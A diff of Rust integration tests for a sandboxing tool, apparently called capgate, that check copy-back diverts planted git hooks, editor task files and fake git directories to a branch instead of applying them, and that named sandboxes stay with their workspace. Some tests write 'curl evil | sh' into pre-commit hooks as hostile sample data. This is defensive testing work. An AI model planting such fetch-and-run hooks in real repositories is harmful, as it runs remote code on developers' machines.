@@ -1492,17 +1492,123 @@ fn copy_back_applies_the_work_and_diverts_hooks_to_a_branch() {
     );
     assert!(stderr.contains("beneath .git"), "{stderr}");
 
-    // The branch is made, never moved: a second run of the same name keeps it and saves
-    // its diverted changes in the data directory instead.
-    let o = env.copy_back("cb2", "echo x > .envrc");
-    let (_, stderr) = out(&o);
+    // The branch is made, never moved: a second run of the same name leaves it and makes
+    // capgate/cb2-2. Its upper directory was emptied by the first copy-back, so the first
+    // run's changes are not carried again (the user's edit since stays).
+    std::fs::write(ws.join("notes.txt"), "edited by the user\n").unwrap();
+    let o = env.copy_back("cb2", "echo x > .envrc; cat notes.txt");
+    let (stdout, stderr) = out(&o);
     assert_eq!(o.status.code(), Some(0), "{stderr}");
-    assert!(stderr.contains("exists already"), "{stderr}");
+    assert_eq!(stdout, "edited by the user\n");
     assert_eq!(
-        std::fs::read_to_string(env.path("home/copyback/cb2/files/.envrc")).unwrap(),
-        "x\n"
+        std::fs::read_to_string(ws.join("notes.txt")).unwrap(),
+        "edited by the user\n"
+    );
+    assert_eq!(
+        git(&ws, &["show", "capgate/cb2:.husky/pre-commit"]),
+        "curl evil | sh\n"
+    );
+    assert_eq!(
+        git(&ws, &["diff", "--name-only", "HEAD", "capgate/cb2-2"]),
+        ".envrc\n"
     );
     assert!(!ws.join(".envrc").exists());
+}
+
+/// What the host itself makes a runner is diverted too: its core.hooksPath inside the
+/// tree, and a runner path it keeps as a link (.vscode -> editor), where the workload's
+/// write lands beside the link's name. A planted git directory (HEAD) is not applied.
+#[test]
+fn copy_back_diverts_what_the_hosts_config_and_links_make_runners() {
+    let env = setup();
+    let ws = env.path("ws");
+    std::fs::create_dir_all(ws.join("scripts/hooks")).unwrap();
+    std::fs::create_dir_all(ws.join("editor")).unwrap();
+    std::os::unix::fs::symlink("editor", ws.join(".vscode")).unwrap();
+    git(&ws, &["init", "-q", "-b", "main"]);
+    git(&ws, &["config", "core.hooksPath", "scripts/hooks"]);
+    git(&ws, &["add", "-A"]);
+    git(&ws, &["commit", "-q", "-m", "init"]);
+    let o = env.copy_back(
+        "cb4",
+        "echo 'curl evil | sh' > scripts/hooks/pre-commit; echo '{}' > .vscode/tasks.json; \
+         echo ok > scripts/build.sh; mkdir -p docs/objects docs/refs; \
+         echo 'ref: refs/heads/main' > docs/HEAD",
+    );
+    let (_, stderr) = out(&o);
+    assert_eq!(o.status.code(), Some(0), "{stderr}");
+    assert!(!ws.join("scripts/hooks/pre-commit").exists(), "{stderr}");
+    assert!(!ws.join("editor/tasks.json").exists(), "{stderr}");
+    assert!(!ws.join("docs/HEAD").exists(), "{stderr}");
+    assert_eq!(
+        std::fs::read_to_string(ws.join("scripts/build.sh")).unwrap(),
+        "ok\n"
+    );
+    assert_eq!(
+        git(&ws, &["diff", "--name-only", "HEAD", "capgate/cb4"]),
+        "docs/HEAD\neditor/tasks.json\nscripts/hooks/pre-commit\n"
+    );
+}
+
+/// A named sandbox's kept changes belong to their workspace: a run on another one is
+/// refused (125), naming both, instead of showing (or carrying back) one tree's changes
+/// over the other. And one run of a name at a time.
+#[test]
+fn a_named_sandboxs_changes_stay_with_their_workspace() {
+    let env = setup();
+    let other = env.path("other");
+    std::fs::create_dir(&other).unwrap();
+    let o = env.capgate(
+        &[
+            "run",
+            "--name",
+            "keep",
+            "--",
+            "sh",
+            "-c",
+            "echo mine > new.txt",
+        ],
+        None,
+    );
+    assert_eq!(o.status.code(), Some(0), "{:?}", out(&o));
+    let o = env.capgate(
+        &[
+            "run",
+            "--name",
+            "keep",
+            "--workspace",
+            other.to_str().unwrap(),
+            "--copy-back",
+            "--",
+            "true",
+        ],
+        None,
+    );
+    let (_, stderr) = out(&o);
+    assert_eq!(o.status.code(), Some(125), "{stderr}");
+    assert!(
+        stderr.contains("holds changes made on the workspace"),
+        "{stderr}"
+    );
+    assert!(!other.join("new.txt").exists());
+    // Its harmless twin: the same workspace sees its kept change.
+    let o = env.capgate(&["run", "--name", "keep", "--", "cat", "new.txt"], None);
+    assert_eq!(out(&o).0, "mine\n", "{:?}", out(&o));
+
+    let mut first = Command::new(BIN)
+        .args(["run", "--name", "busy", "--", "sleep", "3"])
+        .current_dir(env.path("ws"))
+        .env("CAPGATE_HOME", env.path("home"))
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    std::thread::sleep(std::time::Duration::from_millis(1000));
+    let o = env.capgate(&["run", "--name", "busy", "--", "true"], None);
+    let (_, stderr) = out(&o);
+    assert_eq!(o.status.code(), Some(125), "{stderr}");
+    assert!(stderr.contains("in use by another"), "{stderr}");
+    assert!(first.wait().unwrap().success());
 }
 
 /// A link the host has in its workspace is replaced where the workload made a directory,
